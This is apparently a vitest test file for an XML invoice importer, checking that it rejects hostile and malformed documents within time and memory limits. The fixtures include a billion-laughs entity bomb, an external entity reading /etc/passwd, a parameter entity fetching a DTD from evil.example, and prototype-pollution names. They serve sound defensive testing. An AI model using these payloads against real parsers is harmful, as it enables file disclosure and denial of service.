import { describe, expect, it, test } from 'vitest';
import { parseXml, rootOf } from '../../src/formats/xml.ts';
import { aCii } from '../support/a-cii.ts';
import { bytesOf, readWhole } from '../support/foreign.ts';
import { errorOf } from '../support/import-context.ts';

const megabyte = 1024 * 1024;
const laughs = Array.from({ length: 10 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');
const doctype = (inside: string) =>
  aCii({ before: `<?xml version="1.0"?><!DOCTYPE x [${inside}]>`, buyer: '&a;' });

describe('twenty documents that are no invoices (promises 8, row 18)', () => {
  test.each<[string, () => string, string]>([
    [
      'a billion laughs',
      () => doctype(`<!ENTITY l0 "ha">${laughs}<!ENTITY a "&l10;">`),
      'import.xml_doctype',
    ],
    ['a quadratic blow-up', () => doctype(`<!ENTITY a "${'x'.repeat(100_000)}">`), 'import.xml_doctype'],
    ['an external entity', () => doctype('<!ENTITY a SYSTEM "file:///etc/passwd">'), 'import.xml_doctype'],
    [
      'a parameter entity',
      () => doctype('<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;'),
      'import.xml_doctype',
    ],
    ['a DOCTYPE alone', () => aCii({ before: '<!DOCTYPE invoice>' }), 'import.xml_doctype'],
    ['a DOCTYPE inside the root', () => aCii({ buyer: '<!DOCTYPE x>' }), 'import.xml_doctype'],
    ['an entity declared on its way', () => aCii({ buyer: '<!ENTITY a "b">' }), 'import.xml_doctype'],
    [
      'a name that is a prototype',
      () => aCii({ buyer: '<__proto__><polluted>1</polluted></__proto__>' }),
      'import.xml_invalid',
    ],
    ['an attribute that is a prototype', () => aCii({ buyer: '<b __proto__="1"/>' }), 'import.xml_invalid'],
    [
      'ten thousand levels',
      () => aCii({ buyer: '<a>'.repeat(10_000) + '</a>'.repeat(10_000) }),
      'import.xml_invalid',
    ],
    ['a million levels', () => aCii({ buyer: '<a>'.repeat(1_000_000) }), 'import.xml_too_large'],
    ['a million elements', () => aCii({ buyer: '<a/>'.repeat(1_000_000) }), 'import.xml_too_large'],
    [
      'a hundred thousand attributes',
      () => aCii({ buyer: `<b ${Array.from({ length: 100_000 }, (_, n) => `a${n}=""`).join(' ')}/>` }),
      'import.xml_too_large',
    ],
    ['eleven megabytes', () => aCii({ buyer: 'x'.repeat(11 * megabyte) }), 'import.xml_too_large'],
    ['two roots', () => `${aCii()}<second/>`, 'import.xml_invalid'],
    [
      'a root that is not closed',
      () => aCii().replace('</rsm:CrossIndustryInvoice>', ''),
      'import.xml_invalid',
    ],
    ['an attribute twice', () => aCii({ buyer: '<b a="1" a="2"/>' }), 'import.xml_invalid'],
    ['a comment without end', () => aCii({ buyer: '<!-- ' }), 'import.xml_invalid'],
    ['CDATA without end', () => aCii({ buyer: '<![CDATA[ ' }), 'import.xml_invalid'],
    [
      'bytes that are not what the head declares',
      () => aCii({ buyer: '\ud800', before: '<?xml version="1.0" encoding="UTF-32"?>' }),
      'import.encoding_wrong',
    ],
  ])('%s', async (_, make, key) => {
    const bytes = bytesOf(make());
    const before = process.memoryUsage().rss;
    const started = performance.now();
    const error = await errorOf(() => readWhole(bytes));
    expect([error.key, error.exitCode]).toEqual([key, 65]);
    expect(performance.now() - started).toBeLessThan(5000);
    expect(process.memoryUsage().rss - before).toBeLessThan(300 * megabyte);
  });
});

it('reads the largest document it lets in within bounds', async () => {
  const line =
    '<ram:IncludedNote><ram:Content>a note of some length that says nothing of interest</ram:Content></ram:IncludedNote>';
  const bytes = bytesOf(aCii({ contact: line.repeat(Math.floor((9.9 * megabyte) / line.length)) }));
  const started = performance.now();
  expect((await readWhole(bytes)).invoices[0]?.number).toBe('F-1');
  expect(performance.now() - started).toBeLessThan(10_000);
});

it('takes no value from a prototype', async () => {
  const root = await parseXml(bytesOf('<a><constructor>1</constructor><toString/></a>'), 'x').catch(
    () => undefined,
  );
  expect(root?.attributes.get('toString')).toBeUndefined();
  expect(Object.getPrototypeOf({})).not.toHaveProperty('polluted');
});

test.each([
  ['<a/>', { name: 'a', namespace: '' }],
  [
    '<?xml version="1.0"?>\n<!-- <b/> -->\n<r:a xmlns:r="urn:x" xmlns="urn:y">',
    { name: 'a', namespace: 'urn:x' },
  ],
  ['<Invoice xmlns="urn:y">', { name: 'Invoice', namespace: 'urn:y' }],
  ['Number;Client', undefined],
  ['a < b', undefined],
])('finds the root of %s', (text, root) => {
  expect(rootOf(text)).toEqual(root);
});
